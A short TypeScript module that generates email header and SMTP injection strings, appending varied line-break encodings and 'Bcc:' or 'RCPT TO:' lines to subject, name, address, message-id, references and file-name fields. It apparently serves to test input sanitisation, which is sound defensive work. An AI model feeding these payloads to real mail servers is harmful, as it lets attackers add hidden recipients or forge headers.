export type Place = 'subject' | 'name' | 'address' | 'message-id' | 'references' | 'file name';

/** Texts that would add a recipient or a header if they reached the server as they are. @param victim an address */
export function injections(victim: string): { where: Place; text: string }[] {
  const places: readonly Place[] = ['subject', 'name', 'address', 'message-id', 'references', 'file name'];
  const endings = [
    '\r\n',
    '\n',
    '\r',
    '\u0000\r\n',
    '\u2028',
    '\u0085',
    '\r\n\t\r\n',
    '%0d%0a',
    '=?utf-8?q?=0D=0A?=',
    '";\r\n',
  ];
  const beginnings: Readonly<Record<Place, string>> = {
    subject: 'Hello',
    name: 'Support',
    address: 'sales@contoso.example',
    'message-id': '<1@contoso.example>',
    references: '<a@customer.example>',
    'file name': 'x.txt',
  };
  return places.flatMap((where) =>
    endings.map((ending, index) => ({
      where,
      text: `${beginnings[where]}${ending}${index % 2 === 0 ? `Bcc: ${victim}` : `RCPT TO:<${victim}>`}`,
    })),
  );
}
